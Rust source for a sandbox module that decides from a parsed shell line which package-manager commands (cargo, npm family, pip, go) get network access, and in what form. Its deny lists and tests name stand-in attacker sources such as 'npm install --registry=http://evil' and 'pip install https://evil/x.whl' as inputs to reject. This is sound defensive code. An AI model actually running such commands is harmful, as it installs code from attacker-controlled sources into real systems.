//! Which simple commands run a package manager, and which of them fetch dependencies from the
//! manager's own index: the one thing the sandbox opens the network for. Decided here, on the
//! parse of the line, and nowhere else: a comment (`# | cargo`), a quoted word or an option
//! that names another index, registry, URL, proxy or program never opens it.

use super::shell::Word;
use crate::config::{FetchNeeds, Fetcher};

/// The package manager a simple command runs, and whether it fetches (an npm family command
/// only when it installs: `npm test` and `npm run` get no network).
pub(super) fn manager_of(base: &str, args: &[Word]) -> Option<(Fetcher, bool)> {
    let (manager, fetches) = manager_and_verb(base, args)?;
    // Told not to fetch, it needs no network.
    let offline = args
        .iter()
        .any(|a| matches!(a.text.as_str(), "--offline" | "--frozen" | "--no-index"));
    Some((manager, fetches && !offline))
}

fn manager_and_verb(base: &str, args: &[Word]) -> Option<(Fetcher, bool)> {
    let sub = args
        .iter()
        .find(|a| !a.text.starts_with('-'))
        .map_or("", |a| a.text.as_str());
    match base {
        "cargo" => Some((
            Fetcher::Cargo,
            !matches!(sub, "fmt" | "help" | "version" | ""),
        )),
        "npm" | "pnpm" | "yarn" => {
            const INSTALLS: &[&str] = &[
                "install", "i", "ci", "add", "update", "up", "upgrade", "dedupe", "view", "info",
                "show", "outdated", "audit",
            ];
            let installs = INSTALLS.contains(&sub) || (base == "yarn" && sub.is_empty());
            Some((Fetcher::Node, installs))
        }
        "pip" | "pip3" | "uv" | "poetry" => Some((Fetcher::Python, true)),
        "go" => Some((
            Fetcher::Go,
            !matches!(sub, "version" | "env" | "help" | "fmt" | ""),
        )),
        n if n.starts_with("python") => {
            let module = args.first().map(|a| a.text.as_str()) == Some("-m")
                && args.get(1).map(|a| a.text.as_str()) == Some("pip");
            module.then_some((Fetcher::Python, true))
        }
        _ => None,
    }
}

/// How a fetching command may have the network without sharing it with project code.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum FetchForm {
    /// A fetch that runs no project code, run first with the network and the caches; the
    /// command itself then runs offline (cargo's builds: `cargo fetch`; an npm-family install:
    /// itself with `--ignore-scripts`; go's builds and tests: `go mod download`).
    First(Vec<String>),
    /// The command runs no project code itself (`cargo search`, `npm view`, `go mod tidy`): it
    /// may have them.
    Itself,
    /// The manager has no code-free fetch (pip, uv and poetry build what they fetch): the
    /// command has the network, an accepted risk the threat model states, but never a cache.
    Unavoidable,
    /// The command can run project code (a build script, a lifecycle script) and no code-free
    /// fetch could be made for it: it gets neither.
    Offline,
}

/// Cargo's verbs that build (or only read) the project: `cargo fetch` fetches what they need.
const CARGO_BUILDS: &[&str] = &[
    "build", "b", "check", "c", "test", "t", "run", "r", "bench", "clippy", "doc", "fix", "fetch",
    "tree", "metadata",
];

/// Cargo's verbs that fetch and run no project code.
const CARGO_CODE_FREE: &[&str] = &["search", "info", "update", "generate-lockfile"];

/// npm-family verbs that install (and so run lifecycle scripts, unless told not to).
const NODE_INSTALLS: &[&str] = &[
    "install", "i", "ci", "add", "update", "up", "upgrade", "dedupe",
];

/// npm-family verbs that only ask the registry.
const NODE_CODE_FREE: &[&str] = &["view", "info", "show", "outdated"];

/// Options of an npm-family install that change neither where it fetches from, nor where it
/// works and reads its configuration, nor whether it runs scripts: a prefetch is built only
/// from these (`--ignore-scripts=false`, a `--userconfig` naming a project file, a
/// `--prefix=sub` whose `.npmrc` names a `git`, a workspace, anything unknown leave it offline).
const NODE_PLAIN_OPTIONS: &[&str] = &[
    "-D",
    "--save-dev",
    "-S",
    "--save",
    "-P",
    "--save-prod",
    "-O",
    "--save-optional",
    "-E",
    "--save-exact",
    "--no-save",
    "--production",
    "--prod",
    "--dev",
    "--omit",
    "--include",
    "--legacy-peer-deps",
    "--strict-peer-deps",
    "--no-audit",
    "--no-fund",
    "--prefer-offline",
    "--prefer-online",
    "--frozen-lockfile",
    "--pure-lockfile",
    "--immutable",
    "--silent",
    "-s",
    "--quiet",
    "-q",
    "--loglevel",
    "--no-progress",
    "--no-optional",
    "--ignore-engines",
    "--package-lock-only",
    "--no-package-lock",
    "--ignore-scripts",
];

/// How a simple command that fetches may have the network (see `FetchForm`).
pub(super) fn fetch_form(base: &str, args: &[Word]) -> FetchForm {
    let sub = args
        .iter()
        .find(|a| !a.text.starts_with('-'))
        .map_or("", |a| a.text.as_str());
    let chooses = |flags: &[&str]| {
        args.iter().any(|a| {
            flags
                .iter()
                // `-Zflag`, `-Cdir`: a short option's value may be attached.
                .any(|f| {
                    a.text == *f
                        || a.text.starts_with(&format!("{f}="))
                        || (f.len() == 2 && a.text.starts_with(f))
                })
        })
    };
    match base {
        // Another manifest, directory or unstable option: the fetch first would fetch for
        // something else than what runs.
        "cargo" if chooses(&["--manifest-path", "-C", "-Z", "--config"]) => FetchForm::Offline,
        "cargo" if CARGO_BUILDS.contains(&sub) => {
            FetchForm::First(vec!["cargo".into(), "fetch".into()])
        }
        "cargo" if CARGO_CODE_FREE.contains(&sub) => FetchForm::Itself,
        "npm" | "pnpm" | "yarn" if sub == "audit" && !args.iter().any(|a| a.text == "fix") => {
            FetchForm::Itself
        }
        "npm" | "pnpm" | "yarn" if NODE_CODE_FREE.contains(&sub) => FetchForm::Itself,
        "npm" | "pnpm" | "yarn"
            if (NODE_INSTALLS.contains(&sub) || (base == "yarn" && sub.is_empty()))
                && plain_node_args(args) =>
        {
            // Before the verb, where no `--` can make it an operand (and the launcher says it
            // again in the fetch's environment). pnpm also loads a `pnpmfile` of hooks, which
            // `--ignore-scripts` does not stop.
            let pnpmfile = (base == "pnpm").then_some("--ignore-pnpmfile");
            let fetch = [base, "--ignore-scripts"]
                .into_iter()
                .chain(pnpmfile)
                .map(String::from)
                .chain(args.iter().map(|a| a.text.clone()))
                .collect();
            FetchForm::First(fetch)
        }
        "go" => go_form(args),
        "pip" | "pip3" | "uv" | "poetry" => FetchForm::Unavoidable,
        n if n.starts_with("python") => FetchForm::Unavoidable,
        _ => FetchForm::Offline,
    }
}

/// How a go command may fetch: `go mod …` and `go get` only resolve and download (no build, no
/// test, no generator), so they may; a build, test or anything else gets `go mod download`
/// first. A flag before the verb (`-C dir`), another go.mod (`-modfile`) or a package at a
/// version (`go run x@v1`, which `go mod download` does not fetch) leaves it offline.
fn go_form(args: &[Word]) -> FetchForm {
    let verb = args.first().map_or("", |a| a.text.as_str());
    let other_module = args.iter().any(|a| {
        let text = a.text.trim_start_matches('-');
        text == "modfile" || text.starts_with("modfile=")
    });
    if verb.starts_with('-') || other_module {
        return FetchForm::Offline;
    }
    if matches!(verb, "mod" | "get") {
        return FetchForm::Itself;
    }
    if args.iter().skip(1).any(|a| a.text.contains('@')) {
        return FetchForm::Offline;
    }
    FetchForm::First(vec!["go".into(), "mod".into(), "download".into()])
}

/// Whether an npm-family install's arguments are operands and plain options only (after a
/// `--`, operands only).
fn plain_node_args(args: &[Word]) -> bool {
    let mut operands = false;
    args.iter().all(|arg| {
        let text = arg.text.as_str();
        let option = text.split('=').next().unwrap_or(text);
        match (operands, text.starts_with('-')) {
            (_, false) => true,
            (false, true) if text == "--" => {
                operands = true;
                true
            }
            (false, true) => {
                NODE_PLAIN_OPTIONS.contains(&option)
                    && !(option == "--ignore-scripts" && text != option)
            }
            (true, true) => false,
        }
    })
}

/// Options that point a package manager elsewhere: another index, registry, proxy or source.
const ELSEWHERE_OPTIONS: &[&str] = &[
    "--index",
    "--registry",
    "--index-url",
    "--extra-index-url",
    "--find-links",
    "--trusted-host",
    "--proxy",
    "--https-proxy",
    "--config",
    "--git",
    "--path",
    "-i",
    "-f",
    "--default-index",
];

/// Why a package manager's fetch would go somewhere other than its own index (so it gets no
/// network unasked), if it would.
pub(super) fn elsewhere(base: &str, args: &[Word]) -> Option<String> {
    for arg in args {
        let text = arg.text.as_str();
        let option = text.split('=').next().unwrap_or(text);
        if ELSEWHERE_OPTIONS.contains(&option) {
            return Some(format!(
                "`{base} {option}` fetches from another index or source"
            ));
        }
        if arg.dynamic {
            return Some(format!(
                "`{base}` is given `{text}`, known only at run time"
            ));
        }
        let lower = text.to_ascii_lowercase();
        let url = [
            "://",
            "git+",
            "github:",
            "gitlab:",
            "bitbucket:",
            "registry",
            "proxy",
        ];
        if url.iter().any(|u| lower.contains(u)) {
            return Some(format!("`{base}` is pointed at `{text}`, another source"));
        }
    }
    None
}

/// Variables that point package managers at another index, registry or proxy.
pub(super) fn points_elsewhere(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    upper.ends_with("_PROXY")
        || upper.contains("REGISTR")
        || upper.contains("INDEX")
        || matches!(
            upper.as_str(),
            "GOPROXY" | "GOFLAGS" | "GONOSUMDB" | "GONOSUMCHECK" | "GOSUMDB" | "GOPRIVATE"
        )
        || upper.starts_with("CARGO_NET")
        || upper.starts_with("NPM_CONFIG")
        || upper.starts_with("PIP_")
        || upper.starts_with("UV_")
}

/// Commands that may share a line with a fetch without sharing its network in a way that
/// matters (they run nothing of their own).
pub(super) fn harmless(base: &str) -> bool {
    matches!(
        base,
        "cd" | "pushd" | "popd" | "echo" | "printf" | "true" | "false" | "test" | "[" | ":" | "pwd"
    )
}

/// What the line's package managers fetch, and whether anything else runs beside them.
#[derive(Debug, Clone, Default)]
pub(crate) struct Fetches {
    pub(super) managers: Vec<Fetcher>,
    /// A manager fetches from its own index.
    pub(super) fetching: bool,
    /// A manager is pointed at another index, registry, proxy or source.
    pub(super) elsewhere: bool,
    /// A program other than a manager (or a harmless builtin) runs on the line.
    pub(super) others: bool,
    /// How each fetching command may have the network.
    pub(super) forms: Vec<FetchForm>,
    /// The line changes directory (a fetch run first would run somewhere else).
    pub(super) moves: bool,
}

impl Fetches {
    /// The caches and the network: only for a line of package managers fetching from their
    /// own index, and only in a form that shares them with no project code: one code-free
    /// fetch run first (the command then runs offline), or commands that run no project code
    /// themselves; pip's lines (which have no other form) get the network without the caches.
    /// Anything else runs offline, with the caches read-only.
    pub(crate) fn needs(&self) -> FetchNeeds {
        let mut needs = FetchNeeds {
            managers: self.managers.clone(),
            ..FetchNeeds::default()
        };
        if !self.fetching || self.elsewhere || self.others || self.moves {
            return needs;
        }
        // One form for the whole line (two different fetches first would each leave the
        // other's command its network).
        let first = self.forms.first();
        let Some(form) = first.filter(|first| self.forms.iter().all(|f| f == *first)) else {
            return needs;
        };
        match form {
            FetchForm::First(prefetch) => {
                needs.network = true;
                needs.caches = true;
                needs.prefetch.clone_from(prefetch);
            }
            FetchForm::Itself => {
                needs.network = true;
                needs.caches = true;
            }
            FetchForm::Unavoidable => needs.network = true,
            FetchForm::Offline => {}
        }
        needs
    }

    pub(super) fn manager(&mut self, manager: Fetcher, fetches: bool) {
        if !self.managers.contains(&manager) {
            self.managers.push(manager);
        }
        self.fetching |= fetches;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<Word> {
        line.split_whitespace().map(Word::literal).collect()
    }

    #[test]
    fn a_manager_fetches_from_its_own_index_only() {
        for (base, args, fetches) in [
            ("cargo", "build", true),
            ("cargo", "build --offline", false),
            ("cargo", "fmt --check", false),
            ("pip", "install --no-index -r req.txt", false),
            ("cargo", "search serde", true),
            ("npm", "install", true),
            ("npm", "view react", true),
            ("npm", "test", false),
            ("yarn", "", true),
            ("python3", "-m pip install -e .", true),
            ("python3", "-m pytest", false),
        ] {
            let found = manager_of(base, &words(args));
            assert_eq!(
                found.map(|(_, f)| f),
                Some(fetches).filter(|_| found.is_some()),
                "{base} {args}"
            );
        }
        for (base, args) in [
            ("cargo", "search --index sparse+http://127.0.0.1:9/x/ q"),
            ("cargo", "build --config net.git-fetch-with-cli=true"),
            ("npm", "install --registry=http://evil"),
            ("npm", "install git+https://evil/x.git"),
            ("npm", "install github:user/repo"),
            ("pip", "install -i http://evil/simple x"),
            ("pip", "install --extra-index-url=http://evil x"),
            ("pip", "install https://evil/x.whl"),
            ("uv", "pip install --index-url http://evil x"),
        ] {
            assert!(elsewhere(base, &words(args)).is_some(), "{base} {args}");
        }
        assert!(elsewhere("cargo", &words("build --release")).is_none());
        // A fetch that runs no project code, where there is one.
        assert_eq!(
            fetch_form("cargo", &words("test --release")),
            FetchForm::First(vec!["cargo".to_string(), "fetch".to_string()])
        );
        assert_eq!(
            fetch_form("cargo", &words("build --manifest-path x/Cargo.toml")),
            FetchForm::Offline
        );
        assert_eq!(
            fetch_form("pip", &words("install -e .")),
            FetchForm::Unavoidable
        );
        for name in [
            "GOPROXY",
            "npm_config_registry",
            "PIP_INDEX_URL",
            "HTTPS_PROXY",
            "CARGO_REGISTRIES_X_INDEX",
        ] {
            assert!(points_elsewhere(name), "{name}");
        }
        assert!(!points_elsewhere("RUST_LOG"));
    }
}
